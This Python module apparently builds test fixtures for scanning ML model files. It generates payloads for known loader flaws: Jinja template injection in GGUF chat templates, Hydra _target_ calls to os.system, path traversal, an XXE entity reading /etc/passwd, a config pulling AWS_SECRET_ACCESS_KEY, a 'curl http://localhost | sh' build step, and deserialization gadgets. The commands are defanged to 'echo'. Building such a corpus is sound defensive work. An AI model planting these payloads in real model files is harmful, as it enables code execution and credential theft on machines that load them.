"""Folders, configurations and other formats: what a loader imports, renders, fetches or follows."""

# ruff: noqa: E501 - one technique a line, however long; paths in payloads that nothing runs

import json
import struct
from typing import Any

from .kit import (
    EVIL,
    MARK,
    field,
    gguf,
    gguf_text,
    literal,
    name_of,
    program,
    safetensors,
    tarred,
    technique,
    zipped,
)

_EMPTY = safetensors(b"{}", b"")
ECHO = f"echo {MARK}"


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


_SSTI = "CVE-2024-34359, llama-cpp-python: chat templates are programs of Jinja"

_TEMPLATES = {
    "context_of_the_template": "{{ self._TemplateReference__context.namespace.__init__.__globals__ }}",
    "name_by_reverse": "{{ messages|attr('__ssalc__'|reverse) }}",
    "file_included": "{% include '/etc/passwd' %}",
    "macro_imported": "{% import '/tmp/evil.jinja' as m %}{{ m.f() }}",
    "range_without_end": "{% for a in range(99999999) %}{% for b in range(99999999) %}x{% endfor %}{% endfor %}",
    "name_in_a_loop": "{% for k in ['__class__'] %}{{ messages|attr(k) }}{% endfor %}",
    "generator_of_a_method": "{{ messages.append.__self__.__class__.__base__.__subclasses__() }}",
}

for _name, _text in _TEMPLATES.items():

    def _gguf(text: str = _text) -> bytes:
        pairs = [
            ("general.architecture", 8, gguf_text("llama")),
            ("tokenizer.chat_template", 8, gguf_text(text)),
        ]
        return gguf(pairs)

    _gguf.__name__ = f"gguf_template_{_name}"
    technique(_SSTI, "template", "m.gguf")(_gguf)

_POPEN = "{{ lipsum.__globals__['os'].popen('echo').read() }}"


@technique("GGUF specification: big-endian files", "template", "m.gguf")
def gguf_big_endian():
    return gguf([("tokenizer.chat_template", 8, gguf_text(_POPEN, ">"))], order=">")


@technique("GGUF specification: keys are unique; readers keep the first or the last", "malformed", "m.gguf")
def gguf_key_twice():
    good = gguf_text("{{ messages }}")
    return gguf([("tokenizer.chat_template", 8, good), ("tokenizer.chat_template", 8, gguf_text(_POPEN))])


@technique("CVE-2024-23605, llama.cpp: counts of the header are believed", "malformed", "m.gguf")
def gguf_counts_that_overflow():
    return b"GGUF" + struct.pack("<IQQ", 3, 1 << 61, 1 << 60)


@technique("CVE-2024-21802, llama.cpp: shapes and offsets of tensors are believed", "malformed", "m.gguf")
def gguf_tensor_outside():
    info = gguf_text("w") + struct.pack("<IQIQ", 1, 1 << 40, 0, 1 << 50)
    return gguf([], tensors=info, n=1)


@technique("CVE-2025-53630, llama.cpp: an array of arrays nests without end", "malformed", "m.gguf")
def gguf_arrays_nested():
    return gguf([("a", 9, struct.pack("<IQ", 9, 1) * 200 + struct.pack("<IQ", 4, 1 << 60))])


@technique("ggml formats before GGUF", "unknown format", "m.bin")
def ggjt_of_old():
    return b"tjgg" + struct.pack("<I", 3) + b"\xff" * 200


@technique("Hugging Face, chat templates: additional_chat_templates", "template")
def template_among_additional_ones():
    return {"config.json": b"{}", "additional_chat_templates/rag.jinja": _POPEN.encode()}


@technique("Hugging Face, processors: chat_template.json", "template")
def template_of_a_processor():
    return {"config.json": b"{}", "chat_template.json": _json({"chat_template": _POPEN})}


_AUTO = "Hugging Face, transformers: trust_remote_code and auto_map"


@technique(_AUTO + "; CVE-2025-66448, vLLM reads the auto_map of a nested configuration", "remote code")
def auto_map_in_a_nested_configuration():
    nested = {"vision_config": {"auto_map": {"AutoConfig": "evil/backend--configuration.Evil"}}}
    return {
        "config.json": _json({"model_type": "nvidia_nemotron_nano_vl", **nested}),
        "model.safetensors": _EMPTY,
    }


@technique(_AUTO, "remote code")
def auto_map_of_a_video_processor():
    return {
        "config.json": b"{}",
        "video_preprocessor_config.json": _json({"auto_map": {"AutoVideoProcessor": "p.P"}}),
    }


@technique("Hugging Face, generation: custom_generate/generate.py is run", "remote code")
def custom_generate():
    return {
        "config.json": b"{}",
        "generation_config.json": b"{}",
        "custom_generate/generate.py": b"import os\nos.system('echo')\n",
    }


@technique("sentence-transformers: model_args with trust_remote_code", "remote code")
def trust_written_into_the_configuration():
    return {
        "sentence_bert_config.json": _json({"model_args": {"trust_remote_code": True}}),
        "config.json": b"{}",
    }


@technique("Hugging Face, Inference Endpoints: handler.py is imported", "remote code")
def handler_of_an_endpoint():
    return {
        "config.json": b"{}",
        "handler.py": b"import os\nos.system('echo')\n",
        "model.safetensors": _EMPTY,
    }


@technique("Hugging Face, datasets before 4.0: a script named like the folder", "remote code")
def script_of_a_dataset():
    return {"README.md": b"# d\n", "model.py": b"import datasets, os\nos.system('echo')\n"}


@technique("transformers, sharded checkpoints: the index names the files", "path")
def index_that_leaves_the_folder():
    return {
        "config.json": b"{}",
        "pytorch_model.bin.index.json": _json({"weight_map": {"w": "../../../tmp/evil.bin"}}),
    }


_HYDRA = "Unit 42, January 2026; CVE-2025-23304 and CVE-2026-22584: _target_ of Hydra is called"


@technique(_HYDRA, "remote code")
def target_in_a_config_json():
    return {
        "config.json": _json({"distr": {"_target_": "os.system", "command": ECHO}}),
        "model.safetensors": _EMPTY,
    }


@technique(_HYDRA, "remote code", "m.safetensors")
def target_in_the_metadata_of_safetensors():
    meta = json.dumps(
        {"__metadata__": {"config": json.dumps({"_target_": "os.system", "_args_": [ECHO]})}}
    ).encode()
    return safetensors(meta, b"")


@technique("OmegaConf, resolvers: environment variables and code in values", "remote code")
def resolver_in_a_yaml():
    return {"config.yaml": b"model:\n  _target_: torch.hub.load\n  token: ${oc.env:AWS_SECRET_ACCESS_KEY}\n"}


@technique("Ultralytics: modules and arguments of a model's YAML were evaluated", "remote code")
def yaml_of_yolo():
    return {"yolo.yaml": b"nc: 80\nbackbone:\n  - [-1, 1, \"__import__('os').system('echo')\", [64, 3, 2]]\n"}


@technique("MLflow: models from code (model_code_path)", "remote code")
def mlflow_model_from_code():
    text = "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: model.py\n    python_model: model.py\n"
    return {"MLmodel": text.encode(), "model.py": b"import os\nos.system('echo')\n"}


@technique("CVE-2023-1177 and kin, MLflow: paths of a flavour are joined as they are", "path")
def mlflow_path_elsewhere():
    text = (
        "flavors:\n  sklearn:\n    pickled_model: ../../../tmp/evil.pkl\n    serialization_format: pickle\n"
    )
    return {"MLmodel": text.encode()}


@technique("spaCy: callbacks of config.cfg are looked up and called", "remote code")
def spacy_callback():
    text = '[nlp]\nlang = "en"\npipeline = ["x"]\n\n[nlp.before_creation]\n@callbacks = "evil.v1"\n\n[components.x]\nfactory = "evil"\n'
    return {
        "config.cfg": text.encode(),
        "meta.json": b'{"lang":"en","name":"x","version":"0"}',
        "x/patterns": EVIL,
    }


@technique("NVIDIA Triton: the Python backend runs model.py", "remote code")
def triton_python_backend():
    return {
        "config.pbtxt": b'name: "m"\nbackend: "python"\n',
        "1/model.py": b"import os\nos.system('echo')\n",
    }


@technique("NVIDIA Triton: a parameter names the interpreter's environment", "path")
def triton_environment_elsewhere():
    text = 'name: "m"\nbackend: "python"\nparameters: { key: "EXECUTION_ENV_PATH", value: {string_value: "../../evil.tar.gz"} }\n'
    return {"config.pbtxt": text.encode()}


@technique("Amazon SageMaker: code/inference.py of model.tar.gz is imported", "remote code", "model.tar.gz")
def sagemaker_inference():
    return tarred(
        ("model.safetensors", _EMPTY), ("code/inference.py", b"import os\nos.system('echo')\n"), kind="w:gz"
    )


@technique("Seldon MLServer: implementation is imported", "remote code")
def mlserver_implementation():
    return {
        "model-settings.json": _json(
            {"name": "m", "implementation": "evil.Runtime", "parameters": {"uri": "../../x"}}
        )
    }


@technique("BentoML and Cog: a class to be imported, in YAML", "remote code")
def cog_predictor():
    return {
        "cog.yaml": b"build:\n  run:\n    - curl http://localhost | sh\npredict: 'predict.py:Predictor'\n",
        "predict.py": b"x=1\n",
    }


@technique("CVE-2023-47248, PyArrow: an extension type's metadata is a pickle", "global", "m.arrow")
def arrow_extension_type():
    import pyarrow as pa

    meta = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": EVIL}
    schema = pa.schema([pa.field("a", pa.int64(), metadata=meta)])
    out = pa.BufferOutputStream()
    with pa.ipc.new_file(out, schema):
        pass
    return out.getvalue().to_pybytes()


@technique("CVE-2023-47248, PyArrow: the same through Parquet's stored schema", "global", "m.parquet")
def parquet_extension_type():
    import pyarrow as pa
    import pyarrow.parquet as pq

    meta = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": EVIL}
    table = pa.table({"a": [1]}).cast(pa.schema([pa.field("a", pa.int64(), metadata=meta)]))
    out = pa.BufferOutputStream()
    pq.write_table(table, out)
    return out.getvalue().to_pybytes()


@technique("numcodecs, Pickle: Zarr arrays of objects (and Orbax checkpoints on Zarr)", "global")
def zarr_with_a_pickle_codec():
    array = {
        "chunks": [1],
        "compressor": None,
        "dtype": "|O",
        "fill_value": 0,
        "filters": [{"id": "pickle", "protocol": 5}],
        "order": "C",
        "shape": [1],
        "zarr_format": 2,
    }
    return {".zgroup": b'{"zarr_format": 2}', "w/.zarray": _json(array), "w/0": EVIL}


@technique("Flax, serialization.py: extension types of msgpack", "unknown format", "flax_model.msgpack")
def msgpack_with_an_unknown_extension():
    import msgpack

    return bytes(msgpack.packb({"params": msgpack.ExtType(42, EVIL)}))


@technique(
    "Julia documentation, Serialization: deserialize runs what the file says", "unknown format", "m.jls"
)
def julia_serialized():
    return b"7JL\x1c\x04\0\0\0" + b"\x15\0\x0esystem" + b"\0" * 16


@technique("Frohoff, ysoserial: Java serialization (Weka, H2O, DL4J)", "unknown format", "m.model")
def java_serialized():
    return b"\xac\xed\0\x05sr\0\x11java.util.HashMap" + b"\0" * 32


@technique("Microsoft: BinaryFormatter is dangerous (ML.NET and others)", "unknown format", "m.bin")
def dotnet_binary_formatter():
    return (
        b"\0\1\0\0\0\xff\xff\xff\xff\1\0\0\0\0\0\0\0\x0c\2\0\0\0" + b"System.Diagnostics.Process" + b"\0" * 32
    )


@technique("Ruby documentation, Marshal: load makes objects of any class", "unknown format", "m.bin")
def ruby_marshal():
    return b"\x04\x08o:\x15Gem::Requirement\x06:\x0a@requirements[\0"


@technique("Python documentation, marshal and .pyc: compiled code", "unknown format")
def compiled_module_in_a_folder():
    return {"config.json": b"{}", "modeling.pyc": b"\xa7\r\r\n" + b"\0" * 12 + b"\xe3" + b"\0" * 40}


@technique("Torch7, File:readObject: functions are dumped Lua bytecode", "unknown format", "m.t7")
def lua_function_of_torch7():
    return struct.pack("<iii", 6, 1, 4) + b"\x1bLJ\x02" + b"\0" * 40


@technique("Apache MXNet: an operator of Python in the symbol", "operator")
def mxnet_custom_operator():
    graph = {
        "nodes": [{"op": "Custom", "name": "c", "attrs": {"op_type": "evil"}, "inputs": []}],
        "arg_nodes": [],
        "heads": [[0, 0, 0]],
    }
    return {"model-symbol.json": _json(graph)}


@technique("Caffe: a layer of Python in the prototxt", "operator")
def caffe_python_layer():
    text = 'layer { name: "p" type: "Python" python_param { module: "os" layer: "system" } }\n'
    return {"deploy.prototxt": text.encode()}


@technique("PaddlePaddle: py_func in a program", "operator", "m.pdmodel")
def paddle_py_func():
    operator = field(3, "py_func")
    return field(1, field(1, 0) + field(2, 0) + field(4, operator))


@technique("Apple Core ML: a custom layer is looked up by class name", "operator", "m.mlmodel")
def coreml_custom_layer():
    layer = field(1, "c") + field(500, field(10, "EvilLayer"))
    return field(1, 4) + field(500, field(1, layer))


@technique("OpenVINO IR: XML that names entities and files (XXE)", "unknown format")
def openvino_with_an_entity():
    xml = b'<?xml version="1.0"?><!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net name="&x;" version="11"></net>'
    return {"model.xml": xml, "model.bin": b"\0" * 16}


@technique(
    "TensorRT: an engine is code for the device and may carry plugin libraries", "unknown format", "m.engine"
)
def tensorrt_engine():
    return b"ftrt" + b"\0" * 60


@technique("ExecuTorch: a program of flatbuffers with delegates", "unknown format", "m.pte")
def executorch_program():
    return struct.pack("<I", 32) + b"ET12" + b"\0" * 64


@technique("SQLite: views and triggers run when a database is read", "unknown format", "m.sqlite")
def sqlite_with_a_trigger():
    return b"SQLite format 3\0" + b"\0" * 84


@technique("scipy.io.loadmat: MATLAB 5 files with function handles and objects", "unknown format", "m.mat")
def matlab_objects():
    return b"MATLAB 5.0 MAT-file".ljust(124) + b"\0\1IM" + struct.pack("<II", 17, 8) + b"\0" * 8


_ST = "safetensors, format: header of at most 100 MB, unique keys, no holes, no overlap (Trail of Bits review, 2023)"

for _name, _bytes in {
    "safetensors_metadata_of_objects": safetensors(b'{"__metadata__":{"a":{"b":[1]}}}', b""),
    "safetensors_nan_in_the_header": safetensors(
        b'{"a":{"dtype":"U8","shape":[NaN],"data_offsets":[0,1]}}', b"\0"
    ),
    "safetensors_unknown_type": safetensors(b'{"a":{"dtype":"OBJ","shape":[1],"data_offsets":[0,1]}}', b"\0"),
    "safetensors_offsets_reversed": safetensors(
        b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[1,0]}}', b"\0"
    ),
    "safetensors_keys_escaped_twice": safetensors(
        b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"\\u0061":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}',
        b"\0",
    ),
    "safetensors_not_utf8": safetensors(b'{"\xff":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', b"\0"),
}.items():

    def _given(content: bytes = _bytes) -> bytes:
        return content

    _given.__name__ = _name
    technique(_ST, "malformed", "m.safetensors")(_given)


@technique("XGBoost, JSON and UBJSON models: Booster in a pickle takes its bytes from the state", "malformed")
def xgboost_handle_that_is_no_model():
    body = program(
        name_of("xgboost.core", "Booster"),
        b")\x81",
        literal({"handle": bytearray(b"binf" + b"\xff" * 64)}),
        b"b",
        protocol=5,
    )
    return {"model.pkl": body}


@technique("LightGBM: child indices of a text model are believed", "malformed", "m.txt")
def lightgbm_children_outside():
    return (
        b"tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=0\nobjective=regression\n"
        b"feature_names=a\nfeature_infos=[0:1]\ntree_sizes=220\n\nTree=0\nnum_leaves=2\nnum_cat=0\nsplit_feature=99999999\n"
        b"split_gain=1\nthreshold=0.5\ndecision_type=2\nleft_child=99999\nright_child=-2\nleaf_value=0 1\nleaf_count=1 1\n"
        b"internal_value=0\ninternal_count=2\nshrinkage=1\n\n\nend of trees\n"
    )


@technique("CatBoost: sizes of a cbm file are believed", "malformed", "m.cbm")
def catboost_size_that_lies():
    return b"CBM1" + struct.pack("<I", 1 << 30) + b"\0" * 64


@technique("H2O: a MOJO is a zip with paths in model.ini", "unknown format", "m.zip")
def h2o_mojo():
    return zipped(
        {
            "model.ini": b"[info]\nalgorithm = gbm\n[columns]\na\n[domains]\n0: 2 ../../etc/passwd\n",
            "trees/t00_000.bin": b"\0" * 8,
        }
    )
